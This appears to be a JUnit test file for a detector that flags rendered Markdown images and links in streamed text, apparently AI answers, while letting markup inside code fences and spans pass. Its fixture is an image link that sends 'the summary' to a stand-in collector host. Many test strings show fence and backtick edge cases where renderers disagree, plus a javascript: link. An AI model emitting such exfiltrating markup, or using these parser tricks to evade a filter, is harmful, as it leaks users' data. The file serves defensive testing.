package dev.bastion.detect.markup;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bastion.detect.Finding;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Markup written as an example in code passes; and every way to make a renderer show markup that this reading takes
 * for code — the renderers disagree at the edges of fences and spans — is an attack that must still be reported.
 */
class MarkdownCodeTest {
    static final String IMG = "![chart](https://collector.example.net/c?d=the+summary)";

    static List<String> found(String text) {
        return ActiveMarkupTest.found(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "To show a picture in your README:\n```markdown\n" + IMG + "\n```\nThat is all.",
            "```\n" + IMG + "\n```",
            "```md\n# Title\n\n" + IMG + "\n\n<img src=\"https://collector.example.net/p.gif\">\n```\n",
            "Some text\n```html\n<img src=\"https://collector.example.net/p.gif\">\n```",    // a fence interrupts a paragraph
            "````markdown\n```python\nprint(1)\n```\n" + IMG + "\n````",                  // a fence shown inside a longer one
            "```\n~~~\n" + IMG + "\n``\n```",                                               // tildes and shorter runs are code
            "Write `" + IMG + "` where the image goes.",
            "Write ``" + IMG + " with a ` inside`` there.",
            "A link: `[Sign in](javascript:alert(1))` never does that.",
            "```\r\n" + IMG + "\r\n```\r\n",
            "First `a` then `b` then `" + IMG + "`.",
    })
    void markupInCodePasses(String text) {
        assertThat(found(text)).as(text).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            // fences every renderer does not read alike
            "```\n" + IMG,                                     // never closed: Python-Markdown and showdown render it
            "```\n" + IMG + "\n``",                            // not a closer
            "```\ncode\n````\n" + IMG + "\n```",               // CommonMark closes at ````; the image renders there
            "```\ncode\n   ```\n" + IMG + "\n```",             // an indented closer: CommonMark closes
            "```\ncode\n```\t\n" + IMG + "\n```",              // a tab after the closer: CommonMark closes, Python-Markdown does not
            "```\ncode\n```x\n" + IMG + "\n```",               // showdown closes at any line starting with the fence
            "```\ncode\n      ```\n```\n" + IMG + "\n```",     // deep-indented: content to CommonMark, a closer to a looser reader
            "~~~\n```\n~~~\n" + IMG + "\n```",                 // a tilde fence holds the ```: the image is outside any block
            "   ```\n" + IMG + "\n   ```",                     // an indented fence: not one to Python-Markdown
            "```python title\n" + IMG + "\n```",               // an info string with a space: not a fence to showdown
            "```py \n" + IMG + "\n```",
            "<pre>\n```\n</pre>\n" + IMG + "\n```",            // in an HTML block a fence is text: the image is outside
            "<div>\n```\n\n" + IMG + "\n```",
            "```\na\n```\n" + IMG + "\n```",                   // after a closed block, the next fence is an opener again
            "    ```\n" + IMG + "\n    ```",                   // an indented code block's text, not a fence
            // spans
            "``" + IMG + "`",                                  // strings of different lengths do not pair
            "\\`" + IMG + "`",                                 // an escaped backtick opens nothing
            "`\\`" + IMG + "`",                                // no escapes in a span: it closes at the second backtick
            "`a\nb` " + IMG + " `c`",                           // a span across lines pairs first: the image is outside
            "<http://a.example/`>" + IMG + "`",                // an autolink outranks the span
            "<a title='`'>" + IMG + "`",                       // so does an HTML tag
            "[a](`x) " + IMG + " `",                           // a link's destination holds the first backtick
            "[a](\n`x) " + IMG + " `",                         // ... on the line before
            "| `" + IMG + "|` |\n|---|---|",                   // a table cell ends at the pipe
            "`" + IMG,                                         // never closed
            "`a\n\n" + IMG + "`",                              // a blank line ends the paragraph
            "`a` ![x](/local.png) `" + IMG + "`",               // read more strictly than needed: any "]" before a span
    })
    void markupThatARendererShowsIsStillReported(String text) {
        assertThat(found(text)).as(text.replace("\n", "\\n")).isNotEmpty();
    }

    @Test
    void aLongerCloserIsReadAsNoCloser() {
        // CommonMark closes a ``` block at ````; Python-Markdown does not: from there on nothing is a block
        assertThat(found("```\ncode\n````\n```\n" + IMG + "\n```")).hasSize(1);
        assertThat(found("````\n" + IMG + "\n````")).isEmpty(); // four and four: every reader agrees
    }

    @Test
    void aStreamHoldsMarkupInsideCodeUntilTheCodeCloses() {
        String text = "Like this:\n```markdown\n" + IMG + "\nmore";
        List<Finding> held = scan(text, false);
        assertThat(held).singleElement().satisfies(f -> {
            assertThat(f.start()).isEqualTo(text.indexOf("![chart"));
            assertThat(f.end()).isEqualTo(text.length()); // held to the end, until the fence closes
        });
        assertThat(scan(text + "\n```\n", false)).isEmpty();
        assertThat(scan(text, true)).as("the answer ended inside the block").hasSize(1);
        String span = "Write `" + IMG;
        assertThat(scan(span, false)).singleElement().satisfies(f -> assertThat(f.end()).isEqualTo(span.length()));
        assertThat(scan(span + "` there", false)).isEmpty();
    }

    @Test
    void aStreamCarriesWhatItTrimmedOff() {
        // the opener went out and was trimmed; the state skipped it, and the rest is scanned from there
        String before = "Like this:\n```markdown\n" + "x ".repeat(200) + "\n";
        String rest = IMG + "\n```\nAnd " + IMG;
        MarkdownCode code = new MarkdownCode();
        code.skip(before, 0, before.length());
        List<Finding> out = new ArrayList<>();
        ActiveMarkupTest.IMAGES.scan(rest, true, false, code, out);
        assertThat(out).singleElement().satisfies(f -> assertThat(f.start()).isEqualTo(rest.lastIndexOf("![chart")));
        // and without the state, the rest alone reads as no block: the first image is reported too
        out.clear();
        ActiveMarkupTest.IMAGES.scan(rest, true, false, null, out);
        assertThat(out).hasSize(2);
    }

    @Test
    void skippingInPiecesEqualsReadingWhole() {
        Random random = new Random(7);
        String[] parts = {"```", "`", "``", "\n", "\r\n", " ", "a", "<", "]", "\\", "|", "~~~", "md", "   ", "\t", IMG};
        for (int round = 0; round < 300; round++) {
            StringBuilder b = new StringBuilder();
            for (int k = 0; k < 30; k++) b.append(parts[random.nextInt(parts.length)]);
            String text = b.toString();
            int cut = random.nextInt(text.length() + 1);
            MarkdownCode whole = new MarkdownCode();
            MarkdownCode.Regions all = whole.regions(text, true);
            MarkdownCode pieces = new MarkdownCode();
            pieces.skip(text, 0, cut);
            MarkdownCode.Regions tail = pieces.regions(text.substring(cut), true);
            // every region of the tail, shifted back, is a region of the whole read clipped to the tail
            for (int k = 0; k < tail.closed().length; k += 2) {
                int s = tail.closed()[k] + cut, e = tail.closed()[k + 1] + cut;
                boolean matched = false;
                for (int j = 0; j < all.closed().length; j += 2) {
                    if (Math.max(all.closed()[j], cut) == s && all.closed()[j + 1] == e) matched = true;
                }
                assertThat(matched).as("round %d: %s cut at %d", round, text.replace("\n", "\\n"), cut).isTrue();
            }
            assertThat(pieces.position()).isEqualTo(cut);
        }
    }

    @Test
    void timeGrowsLinearlyWithTheText() {
        String[] units = {"`a", "```\n", "``` ![x](https://c.example/)\n", "`|", "a`b`` ", "\n\n`"};
        for (String unit : units) {
            long small = time(unit.repeat(2_000)), large = time(unit.repeat(16_000));
            assertThat(large).as(unit).isLessThan(Math.max(small, 1_000_000) * 30);
        }
    }

    private static long time(String text) {
        long best = Long.MAX_VALUE;
        for (int i = 0; i < 5; i++) {
            long t0 = System.nanoTime();
            new MarkdownCode().regions(text, true);
            new MarkdownCode().regions(text, false);
            best = Math.min(best, System.nanoTime() - t0);
        }
        return best;
    }

    private static List<Finding> scan(String text, boolean complete) {
        return ActiveMarkupTest.scan(text, complete);
    }
}
